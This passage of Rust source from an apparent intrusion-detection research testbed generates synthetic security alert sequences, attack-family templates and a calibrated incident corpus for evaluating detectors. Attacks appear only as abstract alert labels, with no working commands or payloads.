//! Incident synthesis.
//!
//! Realizes an attack signature into a full [`Incident`]: attacker address,
//! compromised account, noise prologue (the automated probing every attack
//! rides in on), the signature steps at manual-phase pacing, optional S1
//! motif weaving, and an optional terminal critical alert (the damage the
//! preemption models must beat).

use alertlib::alert::{Alert, Entity};
use alertlib::annotate::GroundTruth;
use alertlib::store::{Incident, IncidentId};
use alertlib::taxonomy::AlertKind;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

use crate::library::s1_motif;
use crate::template::Delay;

/// Options for one incident realization.
#[derive(Debug, Clone)]
pub struct IncidentSpec {
    pub family: String,
    pub year: i32,
    /// The core signature kinds (in order).
    pub signature: Vec<AlertKind>,
    /// Number of noise alerts preceding the attack.
    pub noise_prologue: usize,
    /// Weave the S1 motif into the body if not already present.
    pub weave_s1: bool,
    /// Terminal critical alert, if the attack reaches damage.
    pub critical: Option<AlertKind>,
}

/// Pool of user names the generator assigns to compromised accounts.
const USERS: &[&str] = &[
    "jsmith", "mchen", "akumar", "lgarcia", "tnguyen", "rjones", "bwilson", "kpatel", "dlee",
    "sbrown",
];

/// Noise kinds for the automated prologue. The pool is deliberately wide:
/// each incident samples a small sub-pool from it, so the scan noise two
/// incidents share is usually small — which is what keeps pairwise
/// similarity under Fig. 3a's 33% knee.
const NOISE: &[AlertKind] = &[
    AlertKind::PortScan,
    AlertKind::AddressSweep,
    AlertKind::VulnScan,
    AlertKind::BruteForcePassword,
    AlertKind::RepeatedProbeDb,
    AlertKind::SqlInjectionProbe,
    AlertKind::LoginFailed,
    AlertKind::RemoteCodeExecAttempt,
    AlertKind::AuthBypassAttempt,
    AlertKind::LoginNewGeolocation,
];

/// Generate one incident starting at `start`.
pub fn generate_incident(rng: &mut SimRng, start: SimTime, spec: &IncidentSpec) -> Incident {
    let attacker_ip: std::net::Ipv4Addr = std::net::Ipv4Addr::from(u32::from_be_bytes([
        rng.range_u64(1, 223) as u8,
        rng.range_u64(0, 255) as u8,
        rng.range_u64(0, 255) as u8,
        rng.range_u64(1, 255) as u8,
    ]));
    let victim_ip: std::net::Ipv4Addr =
        simnet::addr::ncsa_production().nth(rng.range_u64(256, 60_000));
    let user = (*rng.pick(USERS)).to_string();

    // Assemble the kind sequence: noise prologue, then the signature with
    // the optional motif woven in, then the critical.
    let mut body: Vec<AlertKind> = spec.signature.clone();
    if spec.weave_s1 {
        let motif = s1_motif();
        let already = alertlib_is_subsequence(&motif, &body);
        if !already {
            // Insert motif kinds at strictly ascending random positions so
            // the motif stays in order.
            let mut pos = rng.index(body.len() + 1);
            for k in motif {
                body.insert(pos, k);
                let lo = pos + 1;
                let hi = body.len() + 1;
                pos = lo + rng.index(hi - lo);
            }
        }
    }

    let mut inc = Incident::new(IncidentId(0), spec.family.clone(), spec.year);
    inc.report = GroundTruth {
        users: vec![user.clone()],
        machines: vec![format!("host-{}", victim_ip)],
        attacker_ips: vec![attacker_ip],
    };

    let mut t = start;
    // Noise prologue: attributed to the attacker address (unauthenticated).
    // Each incident draws a small noise sub-pool (1–3 kinds) and paces the
    // probes at scanner rate (exponential, seconds apart — Insight 3's
    // low-variance automated phase).
    let sub_pool: Vec<AlertKind> = {
        let mut pool = NOISE.to_vec();
        rng.shuffle(&mut pool);
        // One noise kind per incident: a given attacker's probing tool is
        // monotonous, and cross-incident noise overlap stays rare.
        pool.truncate(1);
        pool
    };
    let scanner_delay = Delay::Exponential { mean_secs: 5.0 };
    for _ in 0..spec.noise_prologue {
        t += scanner_delay.sample(rng);
        let kind = *rng.pick(&sub_pool);
        inc.push_alert(
            Alert::new(t, kind, Entity::Address(attacker_ip))
                .with_src(attacker_ip)
                .with_dst(victim_ip)
                .with_message(format!("{} from {}", kind.symbol(), attacker_ip)),
        );
    }
    // Contextual long-tail alerts: every real incident carries a couple of
    // one-off alerts specific to its circumstances. They widen the
    // kind-set unions, which is what keeps cross-incident Jaccard low.
    let context_pool: Vec<AlertKind> = AlertKind::ALL
        .iter()
        .copied()
        .filter(|k| {
            use alertlib::taxonomy::Severity::*;
            matches!(k.severity(), Attempt | Significant) && !body.contains(k)
        })
        .collect();
    let mut context_pool = context_pool;
    rng.shuffle(&mut context_pool);
    for k in context_pool.into_iter().take(2) {
        let pos = rng.index(body.len() + 1);
        body.insert(pos, k);
    }

    // Body: attributed to the compromised account. Pacing follows the
    // alert class (Insight 3): scan-class alerts are machine-paced even
    // mid-attack; everything else follows the manual heavy-tailed model.
    for kind in &body {
        let delay = if kind.is_noise() {
            Delay::Exponential { mean_secs: 5.0 }
        } else {
            Delay::manual()
        };
        t += delay.sample(rng);
        inc.push_alert(
            Alert::new(t, *kind, Entity::User(user.as_str().into()))
                .with_src(attacker_ip)
                .with_dst(victim_ip)
                .with_message(kind.symbol()),
        );
    }
    if let Some(critical) = spec.critical {
        t += Delay::manual().sample(rng);
        inc.push_alert(
            Alert::new(t, critical, Entity::User(user.as_str().into()))
                .with_src(attacker_ip)
                .with_dst(victim_ip)
                .with_message(critical.symbol()),
        );
    }
    inc
}

/// Generate benign user sessions (for detector training and false-positive
/// measurement).
pub fn benign_sessions(rng: &mut SimRng, n: usize, start: SimTime) -> Vec<Vec<Alert>> {
    use AlertKind::*;
    let shapes: &[&[AlertKind]] = &[
        &[LoginSuccess, JobSubmit, JobSubmit, FileTransfer],
        &[LoginSuccess, CompileSource, JobSubmit, JobSubmit],
        &[LoginSuccess, SoftwareInstall, FileTransfer],
        &[LoginSuccess, LoginFailed, LoginSuccess, JobSubmit],
        &[LoginUnusualHour, JobSubmit, FileTransfer, JobSubmit],
        &[
            LoginSuccess,
            FileTransfer,
            FileTransfer,
            FileTransfer,
            JobSubmit,
        ],
    ];
    (0..n)
        .map(|i| {
            let shape = rng.pick(shapes);
            let user = format!("{}{}", rng.pick(USERS), i % 7);
            let mut t = start + SimDuration::from_secs(rng.range_u64(0, 86_400));
            shape
                .iter()
                .map(|&k| {
                    t += SimDuration::from_secs(rng.range_u64(30, 3_600));
                    Alert::new(t, k, Entity::User(user.as_str().into())).with_message(k.symbol())
                })
                .collect()
        })
        .collect()
}

/// Local subsequence check (mirror of `mining::is_subsequence`, kept here
/// to avoid a dependency cycle).
fn alertlib_is_subsequence(needle: &[AlertKind], haystack: &[AlertKind]) -> bool {
    let mut it = needle.iter();
    let mut next = it.next();
    for x in haystack {
        match next {
            Some(n) if n == x => next = it.next(),
            Some(_) => {}
            None => return true,
        }
    }
    next.is_none()
}

#[cfg(test)]
mod tests {
    use super::*;
    use AlertKind::*;

    fn spec() -> IncidentSpec {
        IncidentSpec {
            family: "test".into(),
            year: 2015,
            signature: vec![StolenCredentialLogin, SshKeyEnumeration, InternalPivotLogin],
            noise_prologue: 4,
            weave_s1: false,
            critical: Some(DataExfiltration),
        }
    }

    #[test]
    fn incident_structure() {
        let mut rng = SimRng::seed(1);
        let inc = generate_incident(&mut rng, SimTime::from_date(2015, 3, 1), &spec());
        // 4 noise + 3 signature + 2 contextual + 1 critical.
        assert_eq!(inc.len(), 4 + 3 + 2 + 1);
        assert_eq!(inc.year, 2015);
        // Noise first, then user-attributed body, critical last.
        assert!(matches!(
            inc.alerts[0].severity(),
            alertlib::taxonomy::Severity::Noise | alertlib::taxonomy::Severity::Attempt
        ));
        assert!(inc.alerts.last().unwrap().is_critical());
        assert_eq!(inc.first_damage_ts(), Some(inc.alerts.last().unwrap().ts));
        // Ground truth populated.
        assert_eq!(inc.report.users.len(), 1);
        assert_eq!(inc.report.attacker_ips.len(), 1);
        // Time-ordered.
        for w in inc.alerts.windows(2) {
            assert!(w[1].ts >= w[0].ts);
        }
    }

    #[test]
    fn motif_weaving_preserves_order() {
        let mut rng = SimRng::seed(2);
        let mut s = spec();
        s.weave_s1 = true;
        for _ in 0..50 {
            let inc = generate_incident(&mut rng, SimTime::from_date(2016, 1, 1), &s);
            let kinds = inc.kind_sequence();
            assert!(
                alertlib_is_subsequence(&s1_motif(), &kinds),
                "motif must be present in order: {kinds:?}"
            );
            // Original signature preserved as a subsequence too.
            assert!(alertlib_is_subsequence(&s.signature, &kinds));
        }
    }

    #[test]
    fn no_critical_when_not_requested() {
        let mut rng = SimRng::seed(3);
        let mut s = spec();
        s.critical = None;
        let inc = generate_incident(&mut rng, SimTime::from_date(2015, 3, 1), &s);
        assert!(inc.first_damage_ts().is_none());
    }

    #[test]
    fn benign_sessions_are_benign() {
        let mut rng = SimRng::seed(4);
        let sessions = benign_sessions(&mut rng, 20, SimTime::from_date(2020, 1, 1));
        assert_eq!(sessions.len(), 20);
        for s in &sessions {
            assert!(!s.is_empty());
            assert!(s.iter().all(|a| !a.is_critical()));
            for w in s.windows(2) {
                assert!(w[1].ts >= w[0].ts);
            }
        }
    }

    #[test]
    fn deterministic_per_seed() {
        let a = generate_incident(
            &mut SimRng::seed(9),
            SimTime::from_date(2015, 3, 1),
            &spec(),
        );
        let b = generate_incident(
            &mut SimRng::seed(9),
            SimTime::from_date(2015, 3, 1),
            &spec(),
        );
        assert_eq!(a.alerts, b.alerts);
    }
}
