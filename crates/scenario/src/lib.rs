//! # scenario — workloads, incidents and attack scripts
//!
//! Everything stochastic the testbed consumes, all seeded and
//! reproducible:
//!
//! - [`template`] — attack step templates with Insight-3 delay models.
//! - [`library`] — eight attack families + the S1..S43 pattern catalogue
//!   with Fig. 3b's support distribution.
//! - [`incident`] — incident realization (noise prologue, motif weaving,
//!   terminal criticals) and benign sessions.
//! - [`longitudinal`] — the 24-year, 228-incident corpus calibrated to
//!   Table I / Insight 4 (19 critical kinds × 98 occurrences, 60.08% S1).
//! - [`background`] — mass-scanner + legit background streams (Fig. 2's
//!   94 K/day) and the Fig. 1 flow sample.
//! - [`ransomware`] — the §V case-study playbook, including Fig. 5's
//!   lateral-movement script and the 12-day production wave.
//! - [`stream`] — raw [`LogRecord`](telemetry::record::LogRecord) streams
//!   (scan floods + benign flows + per-user command sessions) for the
//!   streaming executors and their benchmarks.
//! - [`faults`] — seeded telemetry fault injection (record loss, sensor
//!   blackout windows, duplication, bounded reordering, per-host clock
//!   skew) for degraded-mode evaluation of the pipeline.
//! - [`mutate`] — the adversarial mutation engine: kill-chain-constrained
//!   template mutation (drops, reorders, cover interleave, low-and-slow
//!   dilation, decoys, lateral campaigns) and the [`Campaign`](mutate::Campaign)
//!   driver multiplexing hundreds of mutated sessions with background load
//!   into one ground-truthed record stream.
//! - [`adapt`] — closed-loop adaptive attackers: a seeded hill-climbing
//!   search over [`MutationConfig`](mutate::MutationConfig) (worst-case
//!   robustness frontier) and a reactive mid-stream generator that
//!   observes block decisions through a [`FeedbackTap`](adapt::FeedbackTap)
//!   and rotates sources / stretches tempo / re-splits laterally.

pub mod adapt;
pub mod background;
pub mod faults;
pub mod incident;
pub mod library;
pub mod longitudinal;
pub mod mutate;
pub mod ransomware;
pub mod stream;
pub mod template;

pub use adapt::{
    AdaptiveSearch, BlockEvent, FeedbackTap, ReactiveGenerator, ReactivePolicy, ReactiveStats,
    SearchSpace,
};
pub use background::{
    fig1_flows, sample_daily_volume, stream_day, stream_days, Fig1Config, Fig1GroundTruth,
    VolumeModel,
};
pub use faults::{
    apply_fault_plan, BlackoutScope, BlackoutWindow, ClockSkewConfig, FaultInjector, FaultPlan,
    FaultStats,
};
pub use incident::{benign_sessions, generate_incident, IncidentSpec};
pub use library::{s1_motif, s_pattern_signatures, s_pattern_supports, standard_library};
pub use longitudinal::{generate_corpus, pin_motif_span, LongitudinalConfig};
pub use mutate::{
    generate_campaign, Campaign, CampaignConfig, CampaignGroundTruth, KillChain, MutatedSession,
    MutationConfig, SessionTruth,
};
pub use ransomware::{
    build_scenario, expected_honeypot_kinds, RansomwareConfig, RansomwareScenario, FIG5_SCRIPT,
};
pub use stream::{record_stream, RecordStreamConfig};
pub use template::{AttackTemplate, Delay, Step};
