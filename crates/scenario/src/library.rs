//! The attack family library and the S-pattern catalogue.
//!
//! Eight parameterized attack families cover the spectrum the paper's
//! corpus spans ("from simple SQL Injections to sophisticated SSH
//! keyloggers, ransomware and their variants"), and a deterministic
//! generator produces the 43 recurring signature sequences (S1..S43) with
//! the support distribution of Fig. 3b (most frequent seen 14 times,
//! lengths two to fourteen).

use alertlib::taxonomy::AlertKind;
use simnet::rng::SimRng;

use crate::template::{AttackTemplate, Delay, Step};

/// The eight canonical attack families.
pub fn standard_library() -> Vec<AttackTemplate> {
    use AlertKind::*;
    let auto = Delay::automated;
    let manual = Delay::manual;
    vec![
        AttackTemplate::new(
            "rootkit-s1",
            vec![
                Step::always(PortScan, auto()),
                Step::always(BruteForcePassword, auto()),
                Step::always(StolenCredentialLogin, manual()),
                Step::always(DownloadSensitive, manual()),
                Step::always(CompileKernelModule, manual()),
                Step::always(KernelModuleLoaded, manual()),
                Step::always(LogWipe, manual()),
                Step::sometimes(RootkitInstalled, manual(), 0.6),
            ],
        ),
        AttackTemplate::new(
            "ransomware-db",
            vec![
                Step::always(RepeatedProbeDb, auto()),
                Step::always(DefaultCredentialUse, manual()),
                Step::always(DbVersionRecon, manual()),
                Step::always(ElfMagicInDbBlob, manual()),
                Step::always(LoExportExecution, manual()),
                Step::always(FileDropTmp, manual()),
                Step::always(SshKeyEnumeration, manual()),
                Step::always(KnownHostsEnumeration, manual()),
                Step::always(LateralMovementAttempt, manual()),
                Step::always(C2Communication, manual()),
                Step::sometimes(MassFileEncryption, manual(), 0.7),
            ],
        ),
        AttackTemplate::new(
            "ssh-keylogger",
            vec![
                Step::always(BruteForcePassword, auto()),
                Step::always(StolenCredentialLogin, manual()),
                Step::always(DownloadSensitive, manual()),
                Step::always(CompileSource, manual()),
                Step::always(NewServiceInstall, manual()),
                Step::always(HistoryCleared, manual()),
                Step::sometimes(CredentialDatabaseDump, manual(), 0.5),
            ],
        ),
        AttackTemplate::new(
            "credential-theft",
            vec![
                Step::always(LoginNewGeolocation, manual()),
                Step::always(PasswordFileAccess, manual()),
                Step::always(SshKeyEnumeration, manual()),
                Step::always(InternalPivotLogin, manual()),
                Step::sometimes(SshKeyTheftConfirmed, manual(), 0.6),
            ],
        ),
        AttackTemplate::new(
            "sqli-webapp",
            vec![
                Step::always(VulnScan, auto()),
                Step::always(SqlInjectionProbe, auto()),
                Step::always(SqlInjectionProbe, manual()),
                Step::always(AnomalousDataVolume, manual()),
                Step::sometimes(DataExfiltration, manual(), 0.5),
            ],
        ),
        AttackTemplate::new(
            "cryptominer",
            vec![
                Step::always(VulnScan, auto()),
                Step::always(RemoteCodeExecAttempt, manual()),
                Step::always(DownloadBinaryUnknown, manual()),
                Step::always(Base64DecodeExec, manual()),
                Step::always(CronEntryAdded, manual()),
                Step::sometimes(CryptominerDeployed, manual(), 0.8),
            ],
        ),
        AttackTemplate::new(
            "data-exfil",
            vec![
                Step::always(GhostAccountLogin, manual()),
                Step::always(BashHistoryAccess, manual()),
                Step::always(ArchiveStaging, manual()),
                Step::always(AnomalousDataVolume, manual()),
                Step::sometimes(PiiInOutboundHttp, manual(), 0.5),
            ],
        ),
        AttackTemplate::new(
            "irc-botnet",
            vec![
                Step::always(PortScan, auto()),
                Step::always(BruteForcePassword, auto()),
                Step::always(StolenCredentialLogin, manual()),
                Step::always(DownloadBinaryUnknown, manual()),
                Step::always(IrcConnection, manual()),
                Step::always(OutboundScanning, manual()),
                Step::sometimes(DdosParticipation, manual(), 0.4),
            ],
        ),
    ]
}

/// Fig. 3b's support distribution: 43 counts, most frequent 14, tail of 2s.
pub fn s_pattern_supports() -> Vec<usize> {
    let mut v = vec![
        14, 12, 11, 10, 9, 8, 8, 7, 7, 6, 6, 6, 5, 5, 5, 5, 4, 4, 4, 4, 4,
    ];
    v.extend(std::iter::repeat_n(3, 8));
    v.extend(std::iter::repeat_n(2, 14));
    debug_assert_eq!(v.len(), 43);
    v
}

/// Kinds eligible to appear inside S-pattern signatures (attack-indicative,
/// non-critical — criticals are appended separately so patterns stay
/// preemptable).
fn signature_pool() -> Vec<AlertKind> {
    AlertKind::ALL
        .iter()
        .copied()
        .filter(|k| {
            use alertlib::taxonomy::Severity::*;
            matches!(k.severity(), Attempt | Significant)
        })
        .collect()
}

/// Generate the 43 distinct S-pattern signatures, lengths 2..=14, seeded
/// deterministically. The first signatures reuse the canonical family
/// signatures so the most frequent patterns are the "classic" attacks.
pub fn s_pattern_signatures(rng: &mut SimRng) -> Vec<Vec<AlertKind>> {
    let mut signatures: Vec<Vec<AlertKind>> = Vec::with_capacity(43);
    // Seed with family signatures (truncated to ≤14).
    for t in standard_library() {
        let mut sig = t.signature();
        sig.truncate(14);
        if sig.len() >= 2 && !signatures.contains(&sig) {
            signatures.push(sig);
        }
    }
    let pool = signature_pool();
    // Length plan for the generated remainder: spread 2..=14.
    let mut next_len = 2usize;
    while signatures.len() < 43 {
        let len = next_len;
        next_len = if next_len >= 14 { 2 } else { next_len + 1 };
        // Draw distinct kinds for the signature.
        let mut sig = Vec::with_capacity(len);
        let mut guard = 0;
        while sig.len() < len && guard < 1_000 {
            guard += 1;
            let k = *rng.pick(&pool);
            if !sig.contains(&k) {
                sig.push(k);
            }
        }
        if sig.len() == len && !signatures.contains(&sig) {
            signatures.push(sig);
        }
    }
    signatures
}

/// The S1 motif of §I: download source over unsecured HTTP → compile as a
/// kernel module → erase the forensic trace.
pub fn s1_motif() -> [AlertKind; 3] {
    [
        AlertKind::DownloadSensitive,
        AlertKind::CompileKernelModule,
        AlertKind::LogWipe,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn library_has_eight_families_with_valid_signatures() {
        let lib = standard_library();
        assert_eq!(lib.len(), 8);
        for t in &lib {
            assert!(t.signature().len() >= 4, "{} signature too short", t.family);
        }
        let families: Vec<_> = lib.iter().map(|t| t.family.clone()).collect();
        assert!(families.contains(&"ransomware-db".to_string()));
    }

    #[test]
    fn supports_match_fig3b_shape() {
        let s = s_pattern_supports();
        assert_eq!(s.len(), 43);
        assert_eq!(s[0], 14, "most frequent pattern seen 14 times");
        assert_eq!(*s.last().unwrap(), 2);
        for w in s.windows(2) {
            assert!(w[0] >= w[1], "supports must be non-increasing");
        }
    }

    #[test]
    fn signatures_are_distinct_and_bounded() {
        let mut rng = SimRng::seed(42);
        let sigs = s_pattern_signatures(&mut rng);
        assert_eq!(sigs.len(), 43);
        for s in &sigs {
            assert!(
                s.len() >= 2 && s.len() <= 14,
                "length {} out of range",
                s.len()
            );
            // No critical kinds inside signatures.
            assert!(s.iter().all(|k| !k.is_critical()));
        }
        let mut dedup = sigs.clone();
        dedup.sort_by_key(|s| s.iter().map(|k| k.index()).collect::<Vec<_>>());
        dedup.dedup();
        assert_eq!(dedup.len(), 43, "signatures must be distinct");
    }

    #[test]
    fn signatures_deterministic_per_seed() {
        let a = s_pattern_signatures(&mut SimRng::seed(5));
        let b = s_pattern_signatures(&mut SimRng::seed(5));
        assert_eq!(a, b);
    }
}
