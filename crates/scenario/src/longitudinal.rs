//! The 24-year longitudinal dataset generator (Table I).
//!
//! Produces an incident corpus calibrated to the paper's published
//! statistics:
//!
//! - **more than 200 incidents** over 2000–2024 (default 228),
//! - S-pattern families with Fig. 3b's support distribution,
//! - the S1 motif present in **60.08%** of incidents,
//! - **19 unique critical kinds occurring 98 times**,
//! - noise prologues so pairwise similarity stays below Fig. 3a's 33%
//!   knee for ≥95% of pairs.

use alertlib::store::{Incident, IncidentStore};
use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;
use simnet::time::SimTime;

use crate::incident::{generate_incident, IncidentSpec};
use crate::library::{s1_motif, s_pattern_signatures, s_pattern_supports};

/// Generator configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LongitudinalConfig {
    pub seed: u64,
    pub start_year: i32,
    pub end_year: i32,
    /// Total incidents ("more than 200").
    pub total_incidents: usize,
    /// Target fraction of incidents containing the S1 motif (60.08%).
    pub s1_fraction: f64,
    /// Total critical-alert occurrences (98).
    pub critical_occurrences: usize,
    /// Noise prologue length range.
    pub noise_range: (usize, usize),
}

impl Default for LongitudinalConfig {
    fn default() -> Self {
        LongitudinalConfig {
            seed: 20_240_801,
            start_year: 2000,
            end_year: 2024,
            total_incidents: 228,
            s1_fraction: 0.6008,
            critical_occurrences: 98,
            noise_range: (3, 9),
        }
    }
}

/// Generate the longitudinal corpus.
pub fn generate_corpus(cfg: &LongitudinalConfig) -> IncidentStore {
    let mut rng = SimRng::seed(cfg.seed);
    let signatures = s_pattern_signatures(&mut rng);
    let supports = s_pattern_supports();
    assert_eq!(signatures.len(), supports.len());

    // Build the per-incident plan: `supports[i]` incidents carry signature
    // i; the remainder are one-off attacks with random signatures.
    let mut plans: Vec<(String, Vec<AlertKind>)> = Vec::with_capacity(cfg.total_incidents);
    for (i, (sig, &support)) in signatures.iter().zip(&supports).enumerate() {
        for _ in 0..support {
            plans.push((format!("family-s{}", i + 1), sig.clone()));
        }
    }
    // One-off incidents: random 3–6 kind signatures.
    let pool: Vec<AlertKind> = AlertKind::ALL
        .iter()
        .copied()
        .filter(|k| {
            use alertlib::taxonomy::Severity::*;
            matches!(k.severity(), Attempt | Significant)
        })
        .collect();
    while plans.len() < cfg.total_incidents {
        let len = rng.range_u64(4, 8) as usize;
        let mut sig = Vec::with_capacity(len);
        while sig.len() < len {
            let k = *rng.pick(&pool);
            if !sig.contains(&k) {
                sig.push(k);
            }
        }
        plans.push(("one-off".into(), sig));
    }
    plans.truncate(cfg.total_incidents);
    rng.shuffle(&mut plans);

    // Motif plan: exactly round(s1_fraction · total) incidents carry it.
    let motif_target = (cfg.s1_fraction * cfg.total_incidents as f64).round() as usize;
    let mut motif_flags = vec![false; cfg.total_incidents];
    // Plans whose signature already contains the motif count toward the
    // target; mark extra incidents until the target is reached.
    let motif = s1_motif();
    let mut have = 0usize;
    for (i, (_, sig)) in plans.iter().enumerate() {
        if contains_subseq(&motif, sig) {
            motif_flags[i] = true;
            have += 1;
        }
    }
    let mut i = 0;
    while have < motif_target && i < cfg.total_incidents {
        if !motif_flags[i] {
            motif_flags[i] = true;
            have += 1;
        }
        i += 1;
    }

    // Critical plan: `critical_occurrences` incidents end in damage, the 19
    // critical kinds assigned round-robin so every kind occurs.
    let criticals: Vec<AlertKind> = AlertKind::critical_kinds().collect();
    let mut critical_plan: Vec<Option<AlertKind>> = vec![None; cfg.total_incidents];
    for (n, slot) in critical_plan
        .iter_mut()
        .take(cfg.critical_occurrences)
        .enumerate()
    {
        *slot = Some(criticals[n % criticals.len()]);
    }
    rng.shuffle(&mut critical_plan);

    // Year plan: linear growth toward the present (attack volume grows).
    let years: Vec<i32> = (cfg.start_year..=cfg.end_year).collect();
    let weights: Vec<f64> = (0..years.len()).map(|i| 1.0 + i as f64 * 0.15).collect();

    let mut store = IncidentStore::new();
    for (idx, (family, sig)) in plans.into_iter().enumerate() {
        let year = years[rng.weighted_index(&weights)];
        let month = rng.range_u64(1, 13) as u32;
        let day = rng.range_u64(1, 28) as u32;
        let start = SimTime::from_date(year, month, day);
        let spec = IncidentSpec {
            family,
            year,
            signature: sig,
            noise_prologue: rng.range_u64(cfg.noise_range.0 as u64, cfg.noise_range.1 as u64 + 1)
                as usize,
            weave_s1: motif_flags[idx],
            critical: critical_plan[idx],
        };
        store.add(generate_incident(&mut rng, start, &spec));
    }
    store
}

/// Force the first (by year) motif incident to 2002 and the last to 2024 so
/// the corpus exhibits the paper's "first observed in 2002 ... as of 2024"
/// recurrence claim; [`generate_corpus`] with defaults usually already
/// covers the span, this pins it for small configurations.
pub fn pin_motif_span(store: &mut IncidentStore) {
    let motif = s1_motif();
    let mut first: Option<usize> = None;
    let mut last: Option<usize> = None;
    let snapshot: Vec<(usize, i32, bool)> = store
        .iter()
        .enumerate()
        .map(|(i, inc)| (i, inc.year, contains_subseq(&motif, &inc.kind_sequence())))
        .collect();
    for (i, year, has) in &snapshot {
        if !has {
            continue;
        }
        if first.is_none_or(|f| snapshot[f].1 > *year) {
            first = Some(*i);
        }
        if last.is_none_or(|l| snapshot[l].1 < *year) {
            last = Some(*i);
        }
    }
    // IncidentStore has no mutable iteration API by design; rebuild.
    if let (Some(f), Some(l)) = (first, last) {
        let mut rebuilt = IncidentStore::new();
        for (i, inc) in store.iter().enumerate() {
            let mut inc: Incident = inc.clone();
            if i == f {
                inc.year = inc.year.min(2002);
            }
            if i == l {
                inc.year = inc.year.max(2024);
            }
            rebuilt.add(inc);
        }
        *store = rebuilt;
    }
}

fn contains_subseq(needle: &[AlertKind], haystack: &[AlertKind]) -> bool {
    let mut it = needle.iter();
    let mut next = it.next();
    for x in haystack {
        match next {
            Some(n) if n == x => next = it.next(),
            Some(_) => {}
            None => return true,
        }
    }
    next.is_none()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn corpus() -> IncidentStore {
        generate_corpus(&LongitudinalConfig::default())
    }

    #[test]
    fn corpus_size_and_span() {
        let store = corpus();
        assert_eq!(store.len(), 228);
        assert!(store.total_alerts() > 228 * 5);
        let years: Vec<i32> = store.iter().map(|i| i.year).collect();
        assert!(years.iter().any(|&y| y <= 2005));
        assert!(years.iter().any(|&y| y >= 2023));
    }

    #[test]
    fn motif_fraction_matches_paper() {
        let store = corpus();
        let motif = s1_motif().to_vec();
        let frac = store.subsequence_support(&motif);
        assert!(
            (frac - 0.6008).abs() < 0.02,
            "S1 motif support {frac} should be ≈60.08%"
        );
    }

    #[test]
    fn critical_calibration() {
        let store = corpus();
        let mut kinds = std::collections::HashSet::new();
        let mut occurrences = 0;
        for inc in store.iter() {
            for a in &inc.alerts {
                if a.is_critical() {
                    kinds.insert(a.kind);
                    occurrences += 1;
                }
            }
        }
        assert_eq!(occurrences, 98, "paper: criticals occur 98 times");
        assert_eq!(kinds.len(), 19, "paper: 19 unique critical alerts");
    }

    #[test]
    fn deterministic_per_seed() {
        let a = generate_corpus(&LongitudinalConfig::default());
        let b = generate_corpus(&LongitudinalConfig::default());
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(b.iter()) {
            assert_eq!(x.alerts, y.alerts);
        }
    }

    #[test]
    fn pin_motif_span_covers_2002_to_2024() {
        let mut store = corpus();
        pin_motif_span(&mut store);
        let motif = s1_motif();
        let years: Vec<i32> = store
            .iter()
            .filter(|i| contains_subseq(&motif, &i.kind_sequence()))
            .map(|i| i.year)
            .collect();
        assert!(years.iter().min().unwrap() <= &2002);
        assert!(years.iter().max().unwrap() >= &2024);
    }

    #[test]
    fn small_configs_work() {
        let cfg = LongitudinalConfig {
            total_incidents: 20,
            critical_occurrences: 10,
            ..Default::default()
        };
        let store = generate_corpus(&cfg);
        assert_eq!(store.len(), 20);
    }
}
