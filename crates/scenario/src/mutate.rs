//! Adversarial mutation engine and campaign driver.
//!
//! The clean family templates of [`crate::library`] replay the *textbook*
//! attacks; real incident corpora are dominated by mutated variants —
//! steps skipped or reordered, benign activity interleaved to dilute the
//! detector's posterior, low-and-slow timing dilation, decoy sessions, and
//! lateral campaigns that hop entities mid-attack. This module generates
//! those variants deterministically from a [`SimRng`]:
//!
//! - [`KillChain`] — per-template ordering invariants (contiguous
//!   same-phase runs may permute internally; phases never run backwards;
//!   damage steps stay terminal). Every mutation respects them by
//!   construction, and [`KillChain::validate`] re-checks any emitted
//!   sequence (the property-test hook).
//! - [`mutate_template`] — one mutated session plan from a template:
//!   step dropping, same-rank adjacent reordering, benign/noise
//!   interleaving, timing dilation, and multi-entity lateral splits.
//! - [`generate_campaign`] — multiplexes hundreds of mutated sessions
//!   (plus optional [`crate::stream`] background load) into one
//!   time-ordered [`LogRecord`] stream with full ground truth
//!   ([`CampaignGroundTruth`]) for the evaluation harness.
//!
//! Sessions are rendered as Zeek notice records carrying the alert symbol
//! (`Site::alert_*` custom notices — the paper's "new alerts ... being
//! improved and incorporated into Zeek policies"), so each session keys to
//! one `Entity::Address` per hop and replays through the full symbolize →
//! filter → detect pipeline, not around it.

use std::net::Ipv4Addr;

use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::intern::Sym;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use telemetry::record::{LogRecord, NoticeKind, NoticeRecord};

use crate::stream::{record_stream, RecordStreamConfig};
use crate::template::AttackTemplate;

/// Mutation knobs. All probabilities are per-session or per-step as noted;
/// everything is driven by the caller's [`SimRng`], so a campaign is
/// byte-identical under the same seed.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MutationConfig {
    /// Per-step probability of dropping a droppable step (never the first
    /// step, never a damage step when [`force_damage`](Self::force_damage)).
    pub drop_prob: f64,
    /// Per-adjacent-pair probability of swapping two retained steps of the
    /// same kill-chain rank.
    pub swap_prob: f64,
    /// Maximum benign/noise steps interleaved into the session (the count
    /// is drawn uniformly in `0..=noise_steps`).
    pub noise_steps: usize,
    /// Inter-step delay multiplier (low-and-slow evasion); `1.0` keeps the
    /// template's timing model, larger values stretch the session.
    pub dilation: f64,
    /// Per-session probability the session is a *decoy*: an
    /// attacker-controlled entity emitting only benign-shaped activity.
    pub decoy_prob: f64,
    /// Per-session probability the (non-decoy) session becomes a lateral
    /// campaign split across multiple entities.
    pub lateral_prob: f64,
    /// Maximum entities a lateral campaign pivots through (≥ 2 to have any
    /// effect; the count is drawn in `2..=max_lateral_entities`).
    pub max_lateral_entities: usize,
    /// Force the template's damage steps (critical severity) to occur so
    /// every attack session has a preemption anchor; otherwise they keep
    /// their template probability.
    pub force_damage: bool,
}

impl Default for MutationConfig {
    fn default() -> Self {
        MutationConfig {
            drop_prob: 0.25,
            swap_prob: 0.35,
            noise_steps: 4,
            dilation: 1.0,
            decoy_prob: 0.1,
            lateral_prob: 0.25,
            max_lateral_entities: 3,
            force_damage: true,
        }
    }
}

/// Kill-chain ordering invariants of one template.
///
